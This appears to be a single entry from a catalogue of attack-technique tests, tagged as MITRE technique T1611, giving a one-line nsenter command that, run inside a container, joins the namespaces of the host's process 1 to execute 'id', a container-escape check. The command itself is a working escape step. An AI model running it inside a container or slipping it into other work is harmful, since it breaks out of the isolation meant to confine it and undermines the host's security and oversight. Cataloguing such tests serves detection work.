# title: A container enters the namespaces of process 1
# technique: T1611
# needs: nsenter
# in: container
# short: yes

nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c id; true
